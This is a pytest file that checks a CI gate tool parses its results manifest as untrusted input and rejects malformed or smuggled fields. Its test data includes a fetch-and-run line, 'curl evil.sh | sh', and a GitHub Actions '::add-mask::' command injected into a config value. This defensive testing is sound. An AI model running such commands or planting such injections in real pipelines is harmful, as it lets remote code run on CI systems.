"""Unit tests of gate/artifact.py: the results artifact is read as untrusted input."""

from __future__ import annotations

import json
from typing import Any

import pytest

from gate.artifact import (
    MAX_MANIFEST_BYTES,
    ArtifactError,
    build_manifest,
    parse_manifest,
    read_relayed_run,
    relay_data,
)
from gate.models import Report, Verdict
from tests.unit.test_render import huge, regression, report_for

SHA = "3" * 40
GOOD: dict[str, Any] = {
    "version": 2,
    "pr_number": 42,
    "head_sha": SHA,
    "config": "llm-gate.yml",
    "verdict": "fail",
    "headline": "Regression: support judge −0.40",
    "regressions": 1,
    "regressed_cases": 3,
    "report": {"verdict": "fail", "suites": [], "changes": None, "stats": {}},
}


def _parse(data: dict[str, Any]) -> object:
    return parse_manifest(json.dumps(data).encode(), "results/llm-gate-publish.json")


def test_round_trip() -> None:
    """What a run writes is what `mode: publish` reads back."""
    results = GOOD["report"]
    report = Report(Verdict.FAIL, GOOD["headline"], "comment", "summary", results, 1, 3)
    text = build_manifest(report, pr_number=42, head_sha=SHA, config="llm-gate.yml")
    manifest = parse_manifest(text.encode(), "m.json")
    assert manifest.model_dump() == {**GOOD, "report": relay_data(results)}


@pytest.mark.parametrize(
    ("change", "field"),
    [
        ({"verdict": "PASS"}, "verdict"),
        ({"verdict": "success"}, "verdict"),
        ({"pr_number": "42"}, "pr_number"),
        ({"pr_number": True}, "pr_number"),
        ({"pr_number": 0}, "pr_number"),
        ({"regressions": 1.0}, "regressions"),
        ({"regressions": -1}, "regressions"),
        ({"version": True}, "version"),
        ({"version": 3}, "version"),
        ({"head_sha": "HEAD"}, "head_sha"),
        ({"headline": "two\nlines"}, "headline"),
        ({"headline": "x" * 141}, "headline"),
        ({"comment": "### ✅ llm-gate: pass"}, "comment"),
        ({"report": []}, "report"),
        ({"config": "a\n::add-mask::b"}, "config"),
        ({"run": "curl evil.sh | sh"}, "run"),
    ],
)
def test_rejects_anything_llm_gate_does_not_write(change: dict[str, Any], field: str) -> None:
    """Wrong types, unknown verdicts, extra keys, oversized text: one line naming the field."""
    with pytest.raises(ArtifactError) as caught:
        _parse({**GOOD, **change})
    message = str(caught.value)
    assert message.startswith(f"results/llm-gate-publish.json: {field}: ")
    assert "\n" not in message and "evil" not in message and "add-mask" not in message


def test_rejects_missing_fields_and_non_objects() -> None:
    """A field left out, a JSON list, bytes that are not JSON: refused."""
    with pytest.raises(ArtifactError, match="verdict: Field required"):
        _parse({k: v for k, v in GOOD.items() if k != "verdict"})
    with pytest.raises(ArtifactError, match="not a JSON object"):
        parse_manifest(b"[1]", "m.json")
    with pytest.raises(ArtifactError, match="not JSON"):
        parse_manifest(b"\xff\xfe", "m.json")


def test_rejects_an_oversized_file_before_parsing() -> None:
    """A file larger than llm-gate ever writes is not even parsed."""
    with pytest.raises(ArtifactError, match="refusing to read it"):
        parse_manifest(b" " * (MAX_MANIFEST_BYTES + 1), "m.json")


def test_an_older_manifest_is_refused_with_what_to_do() -> None:
    """A manifest of version 1 carried markdown: refused, saying to align the versions."""
    with pytest.raises(ArtifactError, match=r"older llm-gate.*same llm-gate version"):
        _parse({**GOOD, "version": 1, "comment": "x"})


def test_results_come_back_as_the_values_they_were_rendered_from() -> None:
    """A run's comparison, changes and stats survive the artifact (texts clipped)."""
    report = report_for(regression())
    text = build_manifest(report, pr_number=42, head_sha=SHA, config="llm-gate.yml")
    run = read_relayed_run(parse_manifest(text.encode(), "m.json"), "m.json")
    assert run.comparison is not None and run.changes is not None
    assert {s.suite for s in run.comparison.suites} == {"faq-bot", "support-bot"}
    support = next(s for s in run.comparison.suites if s.suite == "support-bot")
    original = next(s for s in regression().suites if s.suite == "support-bot")
    assert sorted(support.rows, key=repr) == sorted(original.rows, key=repr)
    assert run.stats["head"].calls == 80 and run.error is None and run.fork_repo is None


def test_only_the_cases_a_comment_details_keep_their_text() -> None:
    """Beyond the 10 detailed cases of a suite, rows keep their numbers but no text."""
    report = report_for(huge(30))
    data = relay_data(report.results)
    rows = data["suites"][0]["rows"]
    assert len(rows) == 30
    assert sum(1 for r in rows if r["head_output"] is not None) == 10
    assert all(len(r["head_output"] or "") <= 2_001 for r in rows)


@pytest.mark.parametrize(
    ("where", "value", "field"),
    [
        ("suites", [{"suite": "s"}], "report.suites.0.verdict"),
        ("verdict", "PASS", "report.verdict"),
        ("stats", {"left": {}}, "report.stats.left"),
        ("not_evaluated", {"reason": "curl evil.sh | sh"}, "report.not_evaluated.reason"),
    ],
)
def test_results_that_are_not_what_a_run_writes_are_refused(
    where: str, value: Any, field: str
) -> None:
    """A results field of the wrong shape: one line naming it, nothing quoted."""
    manifest = _parse({**GOOD, "report": {**GOOD["report"], where: value}})
    assert not isinstance(manifest, ArtifactError)
    with pytest.raises(ArtifactError) as caught:
        read_relayed_run(manifest, "m.json")  # type: ignore[arg-type]
    message = str(caught.value)
    assert message.startswith(f"m.json: {field}"), message
    assert "evil" not in message
